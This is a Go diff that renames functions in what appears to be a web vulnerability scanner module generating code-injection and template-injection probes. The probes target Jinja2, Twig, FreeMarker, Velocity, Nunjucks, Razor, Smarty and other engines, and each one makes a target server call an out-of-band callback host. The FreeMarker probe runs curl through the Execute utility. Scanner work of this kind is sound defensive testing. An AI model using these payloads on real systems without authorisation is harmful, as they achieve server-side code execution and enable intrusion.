@@ -21,8 +21,8 @@ type part struct {
 	place string
 }
 
-// suits reports whether the payload is for one of the languages; without any it may be.
-func (p payload) suits(spoken map[string]bool) bool {
+// suitsLanguages reports whether the payload is for one of the languages; without any it may be.
+func (p payload) suitsLanguages(spoken map[string]bool) bool {
 	if len(spoken) == 0 {
 		return p.languages != "dotnet"
 	}
@@ -88,11 +88,11 @@ func java(quote string) call {
 	}
 }
 
-// anywhere writes a program that runs wherever the value stands: by itself, between
+// polyglotProgram writes a program that runs wherever the value stands: by itself, between
 // single, or between double quotes. What stands elsewhere is text then.
 //
 //	C+'+C+'+"+C+"
-func anywhere(c call, join string) func(string, func() activescan.OASTPayload) (string, []part) {
+func polyglotProgram(c call, join string) func(string, func() activescan.OASTPayload) (string, []part) {
 	return func(value string, bait func() activescan.OASTPayload) (string, []part) {
 		parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}, {bait(), "behind a string in " +
 			"double quotes"}}
@@ -106,9 +106,9 @@ func anywhere(c call, join string) func(string, func() activescan.OASTPayload) (
 	}
 }
 
-// quoted are expressions that need quotes themselves: by itself and in a string, or in a
+// quotedExpressions are expressions that need quotes themselves: by itself and in a string, or in a
 // string of double quotes.
-func quoted(_ string, bait func() activescan.OASTPayload) (string, []part) {
+func quotedExpressions(_ string, bait func() activescan.OASTPayload) (string, []part) {
 	parts := []part{{bait(), "as an expression"}, {bait(), "behind a string"}}
 	c := java(`"`)
 	return c(parts[0].bait.URLWithHostName()) + "+'+" + c(parts[1].bait.URLWithHostName()) + "+'", parts
@@ -126,9 +126,9 @@ type tag struct {
 	call      call
 }
 
-// tags writes a value with tags of several engines, none of which takes those of another
+// templateTags writes a value with tags of several engines, none of which takes those of another
 // one for its own.
-func tags(list ...tag) func(string, func() activescan.OASTPayload) (string, []part) {
+func templateTags(list ...tag) func(string, func() activescan.OASTPayload) (string, []part) {
 	return func(value string, bait func() activescan.OASTPayload) (string, []part) {
 		text := value
 		var parts []part
@@ -141,41 +141,45 @@ func tags(list ...tag) func(string, func() activescan.OASTPayload) (string, []pa
 	}
 }
 
-// in writes a call by a format, with the two parts of the address in it.
-func in(format string) call {
+// formatCall writes a call by a format, with the two parts of the address in it.
+func formatCall(format string) call {
 	return func(address string) string {
 		return strings.NewReplacer("HEAD", address[:cut], "TAIL", address[cut:]).Replace(format)
 	}
 }
 
 var payloads = []payload{
-	{languages: "python", write: anywhere(python, "+")},
-	{languages: "node", write: anywhere(node, "+")},
-	{languages: "ruby", write: anywhere(ruby, "+")},
-	{languages: "php", write: anywhere(php, ".")},
-	{languages: "perl", write: anywhere(perl, ".")},
-	{languages: "java", write: quoted},
+	{languages: "python", write: polyglotProgram(python, "+")},
+	{languages: "node", write: polyglotProgram(node, "+")},
+	{languages: "ruby", write: polyglotProgram(ruby, "+")},
+	{languages: "php", write: polyglotProgram(php, ".")},
+	{languages: "perl", write: polyglotProgram(perl, ".")},
+	{languages: "java", write: quotedExpressions},
 	{languages: "java", write: doubly},
-	{languages: "python ruby", template: true, write: tags(
+	{languages: "python ruby", template: true, write: templateTags(
 		tag{"Jinja2", "{{", "}}",
-			in(`lipsum.__globals__.__builtins__.__import__("urllib.request").request.urlopen("HEAD"~"TAIL",None,3)`)},
+			formatCall(`lipsum.__globals__.__builtins__.__import__("urllib.request").request.urlopen("HEAD"~"TAIL",None,3)`)},
 		tag{"Mako, Chameleon", "${", "}", python}, tag{"Slim, Haml", "#{", "}", ruby})},
-	{languages: "node", template: true, write: tags(
+	{languages: "node", template: true, write: templateTags(
 		tag{"Nunjucks", "{{", "}}", func(a string) string {
 			return `range.constructor("return ` + strings.ReplaceAll(node(a), `\`, `\\`) + `")()`
 		}},
 		tag{"EJS, Eta, lodash", "<%=", "%>", node}, tag{"strings of JavaScript, lodash", "${", "}", node},
 		tag{"Pug", "#{", "}", node})},
-	{languages: "php ruby java", template: true, write: tags(
-		tag{"Twig", "{{", "}}", in(`['HEAD'~'TAIL']|map('file_get_contents')|join`)}, tag{"ERB", "<%=", "%>", ruby},
+	{languages: "php ruby java", template: true, write: templateTags(
+		tag{"Twig", "{{", "}}", formatCall(`['HEAD'~'TAIL']|map('file_get_contents')|join`)},
+		tag{"ERB", "<%=", "%>", ruby},
 		tag{"Velocity", "#set($e='')", "",
-			in(`$e.class.forName('java.net.URL').getConstructor($e.class).newInstance("HEAD$!{e}TAIL").openStream()`)},
-		tag{"FreeMarker", "${", "}", in(`'freemarker.template.utility.Execute'?new()('curl -m 3 HEAD'+'TAIL')`)})},
-	{languages: "python java", template: true, write: tags(
+			formatCall(`$e.class.forName('java.net.URL').getConstructor($e.class).newInstance("HEAD$!{e}TAIL").openStream()`)},
+		tag{"FreeMarker", "${", "}",
+			formatCall(`'freemarker.template.utility.Execute'?new()('curl -m 3 HEAD'+'TAIL')`)})},
+	{languages: "python java", template: true, write: templateTags(
 		tag{"Tornado", "{{", "}}", python}, tag{"MVEL", "@{", "}", java("'")}, tag{"Groovy, expressions of JSP, " +
 			"Thymeleaf", "${", "}", java("'")}, tag{"Spring", "#{", "}", java("'")})},
-	{languages: "php perl", template: true, write: tags(tag{"Smarty", "{", "}", in(`fetch file="HEAD{''}TAIL"`)},
-		tag{"Mojolicious", "<%=", "%>", perl})},
+	{languages: "php perl", template: true,
+		write: templateTags(tag{"Smarty", "{", "}", formatCall(`fetch file="HEAD{''}TAIL"`)},
+			tag{"Mojolicious", "<%=", "%>", perl})},
 	{languages: "dotnet", template: true,
-		write: tags(tag{"Razor", "@(", ")", in(`new System.Net.WebClient().DownloadString("HEAD"+"TAIL")`)})},
+		write: templateTags(tag{"Razor", "@(", ")",
+			formatCall(`new System.Net.WebClient().DownloadString("HEAD"+"TAIL")`)})},
 }
